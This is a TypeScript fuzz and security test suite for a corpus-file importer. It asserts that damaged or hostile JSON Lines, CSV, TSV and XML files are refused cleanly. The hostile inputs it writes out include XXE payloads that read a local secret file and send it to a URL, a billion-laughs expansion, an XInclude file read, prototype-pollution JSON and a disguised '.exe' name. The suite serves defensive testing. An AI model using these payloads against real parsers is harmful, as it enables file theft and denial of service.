/** Files that were broken or made to do harm (S2, S3, S4): each ends in a report with lines, none in a crash. */
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ImportReport } from '../contract/import.js'
import { projectSettings } from '../projects/settings.js'
import { scratchFolder } from '../testing/stores.fixture.js'
import { type ImportInput, readImport } from './read-import.js'

const INPUTS = Number(process.env.PARASCOPE_FUZZ ?? 700)

const settings = projectSettings(JSON.stringify({ modes: ['words', 'types'], tagset: 'msrp-a' }))

describe('a hostile file', () => {
  const folder = scratchFolder()
  let files = 0

  async function check(name: string, content: string | Uint8Array, more: Partial<ImportInput> = {}): Promise<ImportReport> {
    const file = join(folder, `${files++}${name.slice(name.lastIndexOf('.'))}`)
    writeFileSync(file, content)
    const host = {
      begin: async () => ({ hasItems: false, position: 0 }),
      known: async () => [],
      add: async () => {
        throw new Error('a dry run adds nothing')
      },
      discard: async () => {},
      progress: async () => {},
    }
    const report = await readImport({ importId: 'i', file, name, settings, dryRun: true, ...more }, host)
    for (const { severity, line, message } of report.problems) {
      if (severity === 'error') expect(line, message).toBeGreaterThanOrEqual(1)
      expect(message).not.toContain(folder)
    }
    expect(report.records + report.errors).toBeGreaterThan(0)
    return report
  }

  const good = {
    jsonl: [
      '{"id":"a:1","source":["A","b"],"target":["C"],"sure":[[0,0]],"meta":{"x":[1,{"y":null}]}}',
      '{"id":"a:2","source":["Ä","ß"],"target":["c","d"],"phenomena":[{"type":"same-polarity","source":[0],"target":[1]}]}',
      '{"id":"a:3","annotator":"n","source":["x"],"target":["y"],"sourceTree":"(S (NN x))","nullSource":[0]}',
    ].join('\n'),
    tsv: 'id\tsource\ttarget\n1\tThe cat sat\tA cat sat\n2\t"quoted" words\tit\'s "so"\n',
    csv: 'id,source,target\n1,"The cat, sat","A ""cat"" sat"\n2,plain,words\n',
  }

  const damage = fc.oneof(
    fc.record({ kind: fc.constant('insert' as const), at: fc.nat(400), bytes: fc.uint8Array({ maxLength: 6 }) }),
    fc.record({ kind: fc.constant('insert' as const), at: fc.nat(400), bytes: nasty() }),
    fc.record({ kind: fc.constant('cut' as const), at: fc.nat(400), length: fc.integer({ min: 1, max: 40 }) }),
    fc.record({ kind: fc.constant('repeat' as const), at: fc.nat(400), length: fc.integer({ min: 1, max: 40 }) }),
  )

  function nasty() {
    const parts = [
      '\0',
      '"',
      '""',
      '\r',
      '\r\n',
      '\n\n',
      '\t',
      '\ufeff',
      '\\ud800',
      '\\u0000',
      '{',
      '}',
      '[[',
      ']]',
      ':',
      '1e999',
      '-1',
    ]
    return fc.constantFrom(...parts, '"__proto__":{"a":1},', '\u202e', '\u2028', 'null', ',').map((text) => Buffer.from(text))
  }

  it.each(['jsonl', 'tsv', 'csv'] as const)('of %s is read, or refused with the line', async (format) => {
    const source = Buffer.from(good[format])
    let refused = 0
    await fc.assert(
      fc.asyncProperty(fc.array(damage, { minLength: 1, maxLength: 4 }), async (damages) => {
        let bytes = source
        for (const one of damages) {
          const at = one.at % (bytes.length + 1)
          const [before, after] = [bytes.subarray(0, at), bytes.subarray(at)]
          if (one.kind === 'insert') bytes = Buffer.concat([before, one.bytes, after])
          else if (one.kind === 'cut') bytes = Buffer.concat([before, after.subarray(one.length)])
          else bytes = Buffer.concat([before, after.subarray(0, one.length), after])
        }
        if ((await check(`a.${format}`, bytes, { format })).errors > 0) refused++
      }),
      { numRuns: INPUTS, seed: 7 },
    )
    expect(refused).toBeGreaterThan(INPUTS / 20)
    expect(({} as { a?: number }).a).toBeUndefined()
  })

  it.each([
    ['a line of ten megabytes', `{"id":"a","source":["${'x'.repeat(10_000_000)}"],"target":["y"]}`],
    ['brackets without end', `{"id":"a","source":${'['.repeat(200_000)}`],
    ['brackets in a field', `{"id":"a","source":["x"],"target":["y"],"sure":${'['.repeat(50_000)}${']'.repeat(50_000)}}`],
    ['deep meta', `{"id":"a","source":["x"],"target":["y"],"meta":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`],
    ['a number without end', '{"id":"a","source":["x"],"target":["y"],"meta":{"a":1e999}}'],
    ['a field given twice', '{"id":"a","id":"b","source":["x"],"target":["y"]}'],
    ['a NUL', '{"id":"a","source":["x\\u0000"],"target":["y"]}'],
    ['a NUL byte', '{"id":"a","source":["x\0"],"target":["y"]}'],
    ['bytes that are no text', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x0a])],
    [
      'a tree without end',
      `{"id":"a","source":["x"],"target":["y"],"sourceTree":"${'(S '.repeat(20_000)}x${')'.repeat(20_000)}"}`,
    ],
    ['too many words', JSON.stringify({ id: 'a', source: new Array(1001).fill('x'), target: ['y'] })],
    ['a name that turns text around', '{"id":"a","annotator":"\u202egnp.exe","source":["x"],"target":["y"],"sure":[]}'],
  ])('of JSON Lines is refused: %s', async (_, content) => {
    expect((await check('a.jsonl', content, { format: 'jsonl' })).errors).toBeGreaterThan(0)
  })

  it('whose __proto__ is a key pollutes nothing', async () => {
    await check('a.jsonl', '{"id":"a","source":["x"],"target":["y"],"meta":{"__proto__":{"isAdmin":true}}}', { format: 'jsonl' })
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined()
  })

  describe('of XML', () => {
    let calls = 0
    const server = createServer((_, response) => {
      calls++
      response.end('<!ELEMENT a ANY>')
    })
    let url = ''
    const secret = join(folder, 'secret.txt')

    beforeAll(async () => {
      mkdirSync(folder, { recursive: true })
      writeFileSync(secret, 'the secret of the server')
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
    })
    afterAll(() => void server.close())

    const pair = (text: string) =>
      `<pairs><pair><pair_id>1</pair_id><sent1_raw>${text}</sent1_raw><sent2_raw>b</sent2_raw></pair></pairs>`
    const laughs = Array.from({ length: 10 }, (_, k) => `<!ENTITY l${k + 1} "${`&l${k};`.repeat(10)}">`).join('')
    const PAYLOADS: readonly (readonly [string, (place: { url: string; file: string }) => string])[] = [
      ['an entity of its own', () => `<!DOCTYPE a [<!ENTITY e "x">]>${pair('&e;')}`],
      ['a file as an entity', ({ file }) => `<!DOCTYPE a [<!ENTITY e SYSTEM "file://${file}">]>${pair('&e;')}`],
      ['a page as an entity', ({ url }) => `<!DOCTYPE a [<!ENTITY e SYSTEM "${url}/e">]>${pair('&e;')}`],
      ['a public entity', ({ url }) => `<!DOCTYPE a [<!ENTITY e PUBLIC "p" "${url}/p">]>${pair('&e;')}`],
      ['an external document type', ({ url }) => `<!DOCTYPE a SYSTEM "${url}/a.dtd">${pair('a')}`],
      ['a public document type', ({ url }) => `<!DOCTYPE a PUBLIC "-//X//Y" "${url}/a.dtd">${pair('a')}`],
      ['parameter entities', ({ url }) => `<!DOCTYPE a [<!ENTITY % p SYSTEM "${url}/p"> %p;]>${pair('a')}`],
      [
        'parameters that send a file',
        ({ url, file }) =>
          `<!DOCTYPE a [<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % s "<!ENTITY x SYSTEM '${url}/?%f;'>">%s;]>${pair('&x;')}`,
      ],
      ['a billion laughs', () => `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>${pair('&l10;')}`],
      ['one laugh many times', () => `<!DOCTYPE a [<!ENTITY l "${'h'.repeat(50_000)}">]>${pair('&l;'.repeat(5000))}`],
      ['an attribute with an entity', () => `<!DOCTYPE a [<!ENTITY e "x"><!ATTLIST a b CDATA "&e;">]>${pair('a')}`],
      ['a document type in capitals and blanks', () => `\n\n<!DOCTYPE   a\n[ ]\n>${pair('a')}`],
      ['an entity nobody declared', () => pair('&xxe;')],
      ['the character NUL', () => pair('&#0;')],
      ['half a character', () => pair('&#xD800;')],
      ['a thousand levels', () => pair(`${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}`)],
      ['a hundred thousand levels that never end', () => `<pairs>${'<pair>'.repeat(100_000)}`],
      ['another encoding', () => `<?xml version="1.0" encoding="UTF-7"?>${pair('a')}`],
      [
        'the inclusion of a file',
        ({ file }) =>
          `<pairs xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${file}" parse="text"/></pairs>`,
      ],
      ['two roots', () => `${pair('a')}${pair('b')}`],
      ['no end', () => pair('a').slice(0, -20)],
      ['a stylesheet in the middle of a tag', () => `<pairs><pair <?xml-stylesheet href="x"?>></pair></pairs>`],
    ]

    it.each(PAYLOADS)('is refused: %s', async (_, payload) => {
      const begin = performance.now()
      const report = await check('a.xml', payload({ url, file: secret }), { format: 'etpc-xml' })
      expect(report.errors).toBeGreaterThan(0)
      expect(JSON.stringify(report)).not.toContain('the secret of the server')
      expect(calls).toBe(0)
      if (performance.now() - begin > 100) console.info(`took ${Math.round(performance.now() - begin)} ms`)
    })
  })
})
